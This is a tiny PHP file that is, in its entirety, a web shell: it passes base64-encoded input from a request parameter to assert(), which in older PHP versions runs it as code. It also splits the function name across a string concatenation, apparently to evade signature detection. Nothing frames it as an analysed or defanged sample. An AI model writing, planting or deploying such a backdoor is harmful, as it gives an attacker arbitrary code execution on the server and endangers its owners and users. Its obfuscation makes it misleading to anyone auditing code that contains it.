<?php
$a = 'as'.'sert';
assert(base64_decode($_REQUEST['c']));
